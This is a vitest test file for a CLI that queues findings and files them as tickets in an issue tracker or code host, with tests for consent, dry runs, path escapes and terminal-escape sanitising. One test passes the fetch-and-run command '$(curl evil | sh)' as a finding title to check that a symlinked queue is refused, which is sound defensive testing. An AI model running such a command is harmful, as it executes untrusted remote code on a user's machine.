import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { basename, join } from 'node:path';
import {
  codehostForTest,
  type FakeCodehost,
  type FakeTracker,
  ghEnvironment,
  temporaryFolder,
  testTerminal,
  testToken,
  testTracker,
} from '@svc/testkit';
import { describe, expect, onTestFinished, test } from 'vitest';
import { runCommandLine } from '../../../cli/run.ts';

const TOKEN = 'lin_api_hush-hush';

type Given = Parameters<typeof testTerminal>[0] & {
  feedback?: object;
  tracker?: FakeTracker;
  /** What the user agreed to. */
  consentFor?: string[];
};

/** A project with a tracker, and a person or a hook that runs verbs in it. */
function project({ feedback, tracker, consentFor, ...given }: Given = {}) {
  const environment = {
    ...(tracker && { SVC_TRACKER_API_URL: tracker.url }),
    ...given.environment,
  };
  const terminal = testTerminal({ ...given, environment });
  const write = (path: string, json: unknown): void => {
    mkdirSync(join(terminal.home, path, '..'), { recursive: true });
    writeFileSync(join(terminal.home, path), JSON.stringify(json), { mode: 0o600 });
  };
  write('.svc/config.json', {
    svc: {
      projectKey: 'demo',
      project: { ticketPrefix: 'ABC' },
      tracker: { teamKey: 'ABC' },
      ...(feedback && { feedback }),
    },
  });
  if (consentFor) write('.config/svc/config.json', { svc: { feedback: { consentFor } } });
  if (tracker)
    write('.config/svc/config-demo.json', { svc: { tracker: { apiToken: TOKEN, teamKey: 'ABC' } } });
  const queue = join(terminal.home, '.svc/findings/current.jsonl');
  return {
    terminal,
    queue,
    run: (...words: string[]) => runCommandLine(terminal, words),
    add: (title: string, ...words: string[]) =>
      runCommandLine(terminal, ['add-finding', '--title', title, '--body', 'seen', ...words]),
    drain: (...words: string[]) => runCommandLine(terminal, ['findings', 'drain', ...words]),
    config: () => JSON.parse(readFileSync(join(terminal.home, '.svc/config.json'), 'utf8')),
    reported: () => spooled(join(terminal.home, 'svc', 'spool')),
  };
}

type Fact = { event: string; deliveryId?: string; detail: { title?: string } };

const titleIn = ({ detail }: Fact): string => detail.title ?? '';

function spooled(folder: string): Fact[] {
  return readdirSync(folder)
    .toSorted()
    .map((name) => JSON.parse(readFileSync(join(folder, name), 'utf8')));
}

async function trackerWithTeam(): Promise<FakeTracker> {
  const tracker = await testTracker(TOKEN);
  tracker.cloud.addTeam({ key: 'ABC' });
  return tracker;
}

const forGh = (codehost: FakeCodehost) => ghEnvironment(codehost, testToken, process.env['PATH']);

describe('add-finding', () => {
  test('appends one line to the queue, and reports it', async () => {
    const { run, queue, reported } = project();
    const words = ['--skill', 'plan', '--severity', 'med', '--tag', 'a', '--tag', 'b'];
    expect(await run('add-finding', '--title', ' A title ', '--body', 'Seen.', ...words)).toBe(0);
    const finding = {
      ts: '2026-01-02T03:04:05.678Z',
      skill: 'plan',
      title: 'A title',
      body: 'Seen.',
      severity: 'medium',
      tags: ['a', 'b'],
    };
    expect(readFileSync(queue, 'utf8')).toBe(`${JSON.stringify(finding)}\n`);
    expect(reported()).toMatchObject([
      { event: 'feedback.finding_added', detail: { title: 'A title', severity: 'medium', skill: 'plan' } },
    ]);
  });

  test('the body may come from standard input; a second finding is a second line', async () => {
    const { run, add, queue } = project({ input: 'line 1\nline 2\n' });
    expect(await run('add-finding', '--title', 'x', '--body', '-')).toBe(0);
    expect(await add('y')).toBe(0);
    const lines = readFileSync(queue, 'utf8').trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toMatchObject([
      { title: 'x', body: 'line 1\nline 2\n', severity: 'low', skill: '', tags: [] },
      { title: 'y', body: 'seen' },
    ]);
  });

  test('outside a project and a git work tree it is kept, and the folder is named', async () => {
    const { run, terminal } = project();
    expect(await run('add-finding', '--title', 'x', '--body', 'y')).toBe(0);
    expect(terminal.complained()).toBe('');
    const folder = temporaryFolder();
    const outside = (environment = {}) =>
      runCommandLine({ ...terminal, folder, home: folder, environment }, [
        'add-finding',
        '--title',
        'x',
        '--body',
        'y',
      ]);
    expect(await outside({ SVC_FINDINGS_FILE: join(folder, 'own.jsonl') })).toBe(0);
    expect(terminal.complained()).toBe('');
    expect(await outside()).toBe(0);
    expect(terminal.complained()).toContain(
      `warning: ${folder} is not in a project or a git work tree. This creates ${folder}/.svc there.`,
    );
    expect(existsSync(join(folder, '.svc/findings/current.jsonl'))).toBe(true);
  });

  test('to the file of the session, or to the one that is named', async () => {
    const session = project({ environment: { SVC_SESSION_ID: 's-1' } });
    await session.add('x');
    expect(existsSync(join(session.terminal.home, '.svc/findings/s-1.jsonl'))).toBe(true);
    const named = project({ environment: { SVC_SESSION_ID: 's-1', SVC_FINDINGS_FILE: 'own/queue.jsonl' } });
    await named.add('x');
    expect(existsSync(join(named.terminal.home, 'own/queue.jsonl'))).toBe(true);
  });

  test.each([
    ['another severity', ['--title', 'x', '--body', '', '--severity', 'severe'], 'low, medium or high'],
    ['an empty title', ['--title', ' ', '--body', 'x'], '--title: expected text'],
    ['no body', ['--title', 'x'], "required option '--body <text>'"],
  ])('%s is a usage error', async (_, words, message) => {
    const { run, terminal, queue } = project();
    expect(await run('add-finding', ...words)).toBe(2);
    expect(terminal.complained()).toContain(message);
    expect(existsSync(queue)).toBe(false);
  });

  test('a session id that leaves the folder is refused', async () => {
    const { add, terminal } = project({ environment: { SVC_SESSION_ID: '../../etc/x' } });
    expect(await add('x')).toBe(2);
    expect(terminal.complained()).toContain('SVC_SESSION_ID must be usable as a file name');
  });
});

test('list shows the queue, whose texts cannot control the terminal', async () => {
  const { run, add, queue, terminal } = project();
  expect(await run('findings', 'list')).toBe(0);
  expect(terminal.printed()).toBe(`No findings are queued (${queue})`);
  await add('a title\u001b[31m', '--skill', 'plan', '--severity', 'high');
  writeFileSync(queue, `${readFileSync(queue, 'utf8')}{"torn`);
  expect(await run('findings', 'list')).toBe(0);
  expect(terminal.printed()).toContain('2026-01-02T03:04:05.678Z  high  plan  a title?[31m');
  expect(terminal.printed()).toContain('unreadable (not JSON): {"torn');
  const json = project();
  await json.add('x');
  const before = json.terminal.printed().length;
  expect(await json.run('findings', 'list', '--json')).toBe(0);
  expect(JSON.parse(json.terminal.printed().slice(before))).toMatchObject({
    file: json.queue,
    findings: [{ title: 'x', severity: 'low', key: expect.any(String) }],
  });
});

test.each([['current.jsonl'], ['']])(
  'a queue that is a link out of the checkout is refused: findings/%s',
  async (linked) => {
    const { add, drain, terminal, queue } = project();
    const target = join(terminal.home, '..', `${basename(terminal.home)}-target`);
    onTestFinished(() => rmSync(target, { recursive: true, force: true }));
    const folder = join(queue, '..');
    if (linked === '') {
      mkdirSync(target);
      symlinkSync(target, folder);
    } else {
      mkdirSync(folder, { recursive: true });
      writeFileSync(target, 'export A=1\n');
      symlinkSync(target, queue);
    }
    expect(await add('$(curl evil | sh)')).toBe(6);
    expect(await drain()).toBe(6);
    expect(terminal.complained()).toContain('is a link to a file outside');
    if (linked === '') expect(readdirSync(target)).toEqual([]);
    else expect(readFileSync(target, 'utf8')).toBe('export A=1\n');
  },
);

describe('consent', () => {
  test('autoFile true: filed without a question', async () => {
    const tracker = await trackerWithTeam();
    const { add, drain, terminal, queue } = project({
      tracker,
      feedback: { autoFile: true },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc'],
      answers: [],
    });
    await add('x');
    expect(await drain()).toBe(0);
    expect(terminal.questions).toEqual([]);
    expect(tracker.cloud.issues).toHaveLength(1);
    expect(existsSync(queue)).toBe(false);
  });

  test('a committed autoFile is no consent to a destination that the user has not agreed to: it asks, or waits', async () => {
    const codehost = await codehostForTest();
    codehost.cloud.addRepo('evil/public');
    const given = {
      environment: forGh(codehost),
      feedback: { autoFile: true, codehostRepo: 'evil/public' },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc'],
    };
    const nobody = project(given);
    await nobody.add('x');
    expect(await nobody.drain()).toBe(0);
    expect(nobody.terminal.complained()).toContain('you have not agreed to codehost:evil/public');
    expect(existsSync(nobody.queue)).toBe(true);
    expect(codehost.cloud.repoOf('evil/public').issues).toEqual([]);

    const person = project({ ...given, answers: ['y'] });
    await person.add('x');
    expect(await person.drain()).toBe(0);
    expect(person.terminal.questions).toHaveLength(1);
    expect(codehost.cloud.repoOf('evil/public').issues).toHaveLength(1);
    await person.add('y');
    expect(await person.drain()).toBe(0);
    expect(person.terminal.questions).toHaveLength(1);
  });

  test('yes files, and sets autoFile true in the project file', async () => {
    const tracker = await trackerWithTeam();
    const { add, drain, config, terminal } = project({ tracker, answers: ['y'] });
    await add('x');
    await add('y');
    expect(await drain()).toBe(0);
    expect(terminal.questions).toEqual([
      'File 2 findings as tickets (team ABC of the issue tracker, else svc-dev/svc at the code host), now and at the end of each run? [y/N] ',
    ]);
    expect(config().svc.feedback).toEqual({ autoFile: true });
    expect(tracker.cloud.issues).toHaveLength(2);
    await add('z');
    expect(await drain()).toBe(0);
    expect(terminal.questions).toHaveLength(1);
  });

  test.each([['n'], [''], [undefined], ['what?']])(
    'no (%j) persists nothing, and the question returns at the next run',
    async (answer) => {
      const tracker = await trackerWithTeam();
      const { add, drain, config, terminal, queue } = project({ tracker, answers: [answer, answer] });
      await add('x');
      const before = config();
      expect(await drain()).toBe(0);
      expect(config()).toEqual(before);
      expect(existsSync(queue)).toBe(true);
      expect(await drain()).toBe(0);
      expect(terminal.questions).toHaveLength(2);
      expect(tracker.calls()).toEqual([]);
    },
  );

  test.each([
    ['without a terminal', {}],
    ['with SVC_AUTONOMOUS', { answers: ['y'], environment: { SVC_AUTONOMOUS: '1' } }],
  ])('%s nothing is filed, with a message', async (_, given) => {
    const { add, drain, terminal, queue } = project(given);
    await add('x');
    expect(await drain()).toBe(0);
    expect(terminal.complained()).toContain('not filed without consent');
    expect(terminal.printed()).toContain('1 finding kept in');
    expect(existsSync(queue)).toBe(true);
    expect(terminal.questions).toEqual([]);
  });

  test('--yes files this time, and persists nothing', async () => {
    const tracker = await trackerWithTeam();
    const { add, drain, config } = project({ tracker });
    await add('x');
    expect(await drain('--yes')).toBe(0);
    expect(tracker.cloud.issues).toHaveLength(1);
    expect(config().svc.feedback).toBeUndefined();
  });
});

describe('drain', () => {
  test('files each line with the labels of the project and the skill, and reports it', async () => {
    const tracker = await trackerWithTeam();
    const { add, drain, reported, terminal } = project({
      tracker,
      feedback: { autoFile: true, labels: ['from-agents'] },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
    });
    await add('one', '--skill', 'plan');
    await add('two');
    expect(await drain('--json')).toBe(0);
    expect(terminal.printed()).toContain('"filed": 2');
    const named = (ids: readonly string[] = []) =>
      ids.map((id) => tracker.cloud.labels.find((label) => label.id === id)?.name);
    expect(tracker.cloud.issues.map(({ labelIds }) => named(labelIds))).toEqual([
      ['from-agents', 'plan'],
      ['from-agents'],
    ]);
    const facts = reported();
    const filed = facts.filter(({ event }) => event === 'feedback.finding_filed');
    expect(filed.toSorted((a, b) => (titleIn(a) < titleIn(b) ? -1 : 1))).toMatchObject([
      {
        deliveryId: expect.stringMatching(/^finding-filed:/),
        detail: { title: 'one', destination: 'tracker', filedAs: 'ABC-1', url: expect.any(String) },
      },
      { detail: { title: 'two', filedAs: 'ABC-2' } },
    ]);
    expect(facts.filter(({ event }) => event === 'feedback.drained')).toMatchObject([
      { detail: { filed: 2, failed: 0 } },
    ]);
  });

  test('--dry-run shows what would be filed and where, and makes no calls', async () => {
    const tracker = await trackerWithTeam();
    const { add, drain, terminal, queue } = project({
      tracker,
      feedback: { autoFile: true },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
    });
    await add('one');
    expect(await drain('--dry-run')).toBe(0);
    expect(terminal.printed()).toContain(
      '1 finding would be filed (team ABC of the issue tracker, else svc-dev/svc at the code host):\n  one',
    );
    expect(tracker.calls()).toEqual([]);
    expect(existsSync(queue)).toBe(true);
  });

  test('nothing to file needs no configuration and no consent', async () => {
    const { drain, terminal } = project();
    expect(await drain()).toBe(0);
    expect(terminal.printed()).toBe('No findings are queued.');
  });

  test('without a tracker they go to codehostRepo, with the text on standard input', async () => {
    const codehost = await codehostForTest();
    codehost.cloud.addRepo('acme/inbox');
    const { add, drain, terminal } = project({
      environment: forGh(codehost),
      feedback: { autoFile: true, codehostRepo: 'acme/inbox' },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
    });
    await add('one', '--skill', 'plan');
    expect(await drain()).toBe(0);
    expect(terminal.complained()).toBe(
      'warning: not filed at the issue tracker: svc.tracker.apiToken is not set.',
    );
    expect(terminal.printed()).toContain('1 finding filed (acme/inbox at the code host).');
    expect(codehost.cloud.repoOf('acme/inbox').issues).toMatchObject([
      { title: 'one', labels: ['auto-submitted', 'plan'], body: expect.stringContaining('seen') },
    ]);
  });

  test('a failure has its reason and remedy, and a second drain files it once', async () => {
    const tracker = await trackerWithTeam();
    const codehost = await codehostForTest();
    const { add, drain, terminal, queue } = project({
      tracker,
      environment: forGh(codehost),
      feedback: { autoFile: true },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
    });
    await add('one');
    tracker.failNext({ kind: 'unauthorised' }, { times: 9 });
    expect(await drain()).toBe(6);
    expect(terminal.complained()).toContain('1 finding could not be filed and stays in');
    expect(terminal.complained()).toContain('did not accept the API token');
    expect(terminal.complained()).toContain('svc-dev/svc at the code host');
    expect(terminal.complained()).toContain('svc config set svc.tracker.apiToken');
    expect(terminal.complained()).not.toContain(TOKEN);
    expect(existsSync(queue)).toBe(true);
    tracker.restore();
    expect(await drain()).toBe(0);
    expect(tracker.cloud.issues).toHaveLength(1);
  });

  test('two at once: one waits, and none files twice', async () => {
    const tracker = await trackerWithTeam();
    const { add, drain } = project({
      tracker,
      feedback: { autoFile: true },
      consentFor: ['tracker:ABC', 'codehost:svc-dev/svc', 'codehost:acme/inbox'],
    });
    for (let number = 0; number < 10; number += 1) await add(`number ${number}`);
    tracker.failNext({ kind: 'slow', ms: 50 }, { field: 'issueCreate', times: 2 });
    expect(await Promise.all([drain(), drain()])).toEqual([0, 0]);
    expect(tracker.cloud.issues).toHaveLength(10);
  });
});
